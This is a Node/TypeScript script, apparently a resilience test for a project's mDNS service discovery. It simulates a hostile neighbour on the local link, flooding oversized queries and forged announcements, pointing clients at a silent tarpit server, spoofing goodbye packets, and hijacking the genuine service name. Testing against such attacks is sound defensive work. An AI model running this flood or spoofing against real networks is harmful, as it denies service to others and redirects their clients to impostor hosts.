/*
 * node mdns-flood.js KIND RATE: a hostile neighbour on eth0 who sends RATE multicast DNS packets a second until its standard
 * input is closed; those of KIND, or of all kinds in turn. Says in the end how many, as JSON.
 */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import multicastDns from 'multicast-dns';
import type { DnsRecord } from '../../../server/discovery/records.js';

const GROUP = 'ff02::fb';
const TYPE = '_mandos._tcp.local';
const TICK_MS = 10;
/** More than a client keeps of one link. */
const FORGED = 5_000;

const [kind = '', rate = ''] = process.argv.slice(2);
const socket = createSocket({ type: 'udp6', reuseAddr: true });
const mdns = multicastDns({
  type: 'udp6',
  ip: GROUP,
  interface: '::%eth0',
  bind: `${GROUP}%eth0`,
  loopback: false,
  socket,
});
mdns.setMaxListeners(0);
mdns.on('error', () => {});
/** What the server has said of itself last. */
let genuine: DnsRecord[] = [];
mdns.on('response', ({ answers, additionals }) => {
  const all = [...(answers ?? []), ...(additionals ?? [])] as DnsRecord[];
  if (all.some(record => record.type === 'SRV' && record.ttl !== 0)) genuine = all;
});
/** Whoever connects hears nothing. */
const tarpit = createServer(() => {}).listen(0, '::');

const KINDS: Readonly<Record<string, (i: number) => void>> = {
  /** One packet in two has more questions than anybody may ask. */
  questions: i => {
    const questions = Array.from({ length: i % 2 === 0 ? 400 : 100 }, () => ({
      name: TYPE,
      type: 'PTR' as const,
    }));
    mdns.query({ questions });
  },
  /** Servers that are nowhere. */
  announcements: i => {
    const number = (i % FORGED) + 1;
    announce(`forged ${number}`, `forged-${number}.local`, 9, `fe80::dead:${number.toString(16)}`);
  },
  /** Servers that take connections and say nothing. */
  tarpits: i => {
    const number = (i % 300) + 1;
    const { port } = tarpit.address() as AddressInfo;
    announce(`tar ${number}`, `tar-${number}.local`, port, `fe80::a:${number.toString(16)}`);
  },
  /** The server has gone, says somebody who is not it. */
  goodbyes: () => {
    if (genuine.length > 0) mdns.respond(genuine.map(record => ({ ...record, ttl: 0 }) as DnsRecord));
  },
  /** The server is somewhere else, says the same. */
  takeovers: () => {
    const { name = '' } = genuine.find(({ type }) => type === 'SRV') ?? {};
    const { port } = tarpit.address() as AddressInfo;
    if (name !== '') announce(name.slice(0, -TYPE.length - 1), 'usurper.local', port, 'fe80::a:1');
  },
};

function announce(label: string, host: string, port: number, address: string): void {
  const name = `${label}.${TYPE}`;
  mdns.respond([
    { type: 'PTR', name: TYPE, ttl: 4500, data: name },
    { type: 'SRV', name, ttl: 120, flush: true, data: { target: host, port, priority: 0, weight: 0 } },
    { type: 'AAAA', name: host, ttl: 120, flush: true, data: address },
  ]);
}

const wanted = Object.entries(KINDS).filter(([name]) => kind === 'all' || name === kind);
if (wanted.length === 0) throw new Error(`no such flood: ${kind}`);
let sent = 0;
mdns.on('ready', () => {
  const startMs = performance.now();
  // To hear what there is.
  mdns.query({ questions: [{ name: TYPE, type: 'PTR' }] });
  const timer = setInterval(() => {
    const due = ((performance.now() - startMs) * Number(rate)) / 1000;
    for (let i = 0; sent < due && i < Number(rate) / 10 + 1; i++) wanted[sent % wanted.length]?.[1](sent++);
  }, TICK_MS);
  setTimeout(() => process.stdout.write('attacking\n'), 500);
  process.stdin.resume().on('end', () => {
    clearInterval(timer);
    const seconds = (performance.now() - startMs) / 1000;
    const none = { established: 0, closed: 0, failed: 0, peak: 0, handshakes: 0, secrets: 0 };
    process.stdout.write(`${JSON.stringify({ attempts: sent, ...none, seconds })}\n`, () => process.exit());
  });
});
